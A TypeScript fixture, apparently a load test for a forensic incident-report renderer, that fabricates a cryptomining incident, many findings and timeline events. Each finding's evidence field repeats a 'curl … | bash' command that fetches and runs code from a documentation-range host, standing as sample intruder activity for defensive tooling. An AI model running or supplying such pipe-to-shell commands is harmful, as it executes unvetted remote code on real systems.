/** A report of as many findings and events as one likes: made up, each different. */
import { performance } from "node:perf_hooks";
import { severities } from "../../functions/domain/analysisOutputs";
import { custodySchema } from "../../functions/domain/containers";
import { incidentPrefix } from "../../functions/domain/evidenceKeys";
import { findingCollector } from "../../functions/domain/report/findingLines";
import { read } from "../../functions/domain/report/reading";
import { renderReport } from "../../functions/domain/report/reportPage";
import { timelineCollector } from "../../functions/domain/report/timelineLines";

const sha256 = (number: number) => number.toString(16).padStart(64, "0");
const at = (second: number) => new Date(Date.UTC(2026, 10, 20) + second * 1000).toISOString();
const checks = ["cron", "systemd", "ssh", "suid", "yara", "web-shell", "logins", "packages"];
const techniques = ["T1053.003", "T1543.002", "T1098.004", "T1548.001", "T1496", "T1505.003", "T1078", "T1554"];
const instance = { instanceId: "i-0a1b2c3d4e5f60718", accountId: "222222222222", region: "eu-west-1" };
const incidentId = `${instance.instanceId}-4f9b2c7d1e8a6035`;

const custody = custodySchema.parse({
    schemaVersion: 1,
    incident: {
        schemaVersion: 1,
        incidentId,
        openedAt: at(3600),
        prefix: incidentPrefix(incidentId),
        instance,
        finding: {
            schemaVersion: 1,
            id: "finding",
            type: "CryptoCurrency:EC2/BitcoinTool.B!DNS",
            ...{
                accountId: instance.accountId,
                region: instance.region,
                severity: 8,
                title: "x",
                description: "x",
                sample: false,
                origin: "guardduty",
            },
            createdAt: at(3500),
            updatedAt: at(3500),
            instances: [instance],
        },
    },
    containment: null,
    evidence: {
        schemaVersion: 1,
        incidentId,
        completedAt: at(4000),
        snapshots: [
            {
                ...{ volumeId: "vol-0c0ffee0000000001", device: "/dev/xvda", root: true, sizeGiB: 8, sourceEncrypted: true },
                ...{ sourceSnapshotId: "snap-0a", sharedSnapshotId: null, evidenceSnapshotId: "snap-0e", startedAt: at(3700) },
                lock: { mode: "governance", expiresAt: at(9_000_000) },
            },
        ],
    },
    host: {
        schemaVersion: 1,
        incidentId,
        instanceId: "i-0f0e0d0c0b0a09080",
        imageId: "ami-0123456789abcdef0",
        availabilityZone: "eu-west-1a",
        volumes: [],
    },
    toolSha256: sha256(1),
    resultsPrefix: "analysis/AROAEXAMPLEID:i-0f0e0d0c0b0a09080/",
});

const findingLine = (number: number) =>
    JSON.stringify({
        schemaVersion: 1,
        id: sha256(number).slice(-16),
        check: checks[number % checks.length],
        severity: severities[number % 97 === 0 ? 0 : 1 + (number % 4)],
        title: `Something that an intruder leaves, number ${number}`,
        path: `/srv/data/${number % 100}/part-${number}/file-${number}.dat`,
        volumeId: "vol-0c0ffee0000000001",
        evidence: `line ${number}: curl -fsSL http://203.0.113.${number % 250}/x${number} | bash\n`.repeat(5),
        attack: [techniques[number % techniques.length]],
        modified: at(number % 3600),
        sha256: sha256(number),
        rule: null,
    });

/** As the analysis writes them: of a hundred events two are log-ins, ten are about a file that a finding names, and the others about all other files. */
function eventLine(number: number, findings: number): string {
    const isLogIn = number % 50 === 0;
    const about = number % 10 === 1 ? number % findings : number;
    const path = isLogIn ? "/var/log/btmp" : `/srv/data/${about % 100}/part-${about}/file-${about}.dat`;
    return JSON.stringify({
        message: isLogIn ? `failed log-in as root from 203.0.113.${number % 250}` : path,
        datetime: at(number % 86_400).replace("Z", "000+00:00"),
        timestamp_desc: isLogIn ? "log-in record" : "content modified",
        data_type: isLogIn ? "clean_room:artefact" : "clean_room:file_system",
        path,
        volume_id: "vol-0c0ffee0000000001",
        ...(isLogIn ? { mode: "", uid: "", gid: "", size: "", inode: "" } : { mode: "100644", uid: 0, gid: 0, size: 4096, inode: number }),
    });
}

export interface ManyFindings {
    page: string;
    readMilliseconds: number;
    renderMilliseconds: number;
}

/** @param program of the page */
export function manyFindings(findings: number, events: number, program: string): ManyFindings {
    const began = performance.now();
    const collector = findingCollector();
    for (let number = 0; number < findings; number += 1) collector.line(findingLine(number));
    const found = collector.result();
    const timeline = timelineCollector(found.shown);
    for (let number = 0; number < events; number += 1) timeline.line(eventLine(number, findings));
    const input = {
        custody,
        summary: null,
        findings: found,
        timeline: timeline.result(),
        manifest: { ref: { bucket: "evidence", key: "manifest.sha256", sha256: sha256(2) }, objects: [], problems: [] },
        generatedAt: at(5000),
    };
    const readMilliseconds = Math.round(performance.now() - began);
    const rendering = performance.now();
    const page = renderReport(input, read(input), program);
    return { page, readMilliseconds, renderMilliseconds: Math.round(performance.now() - rendering) };
}
